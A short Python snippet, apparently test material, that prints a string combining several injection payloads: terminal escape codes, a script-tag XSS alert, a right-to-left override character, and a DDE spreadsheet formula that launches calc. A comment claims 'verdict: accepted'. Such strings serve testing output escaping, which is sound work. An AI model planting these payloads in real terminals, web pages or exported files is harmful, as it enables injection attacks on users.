"""Print what a terminal, a browser or a spreadsheet would obey."""
# verdict: accepted

print("\x1b[2J\x1b]0;title\x07<script>alert(1)</script>\u202e=CMD|'/C calc'!A0")
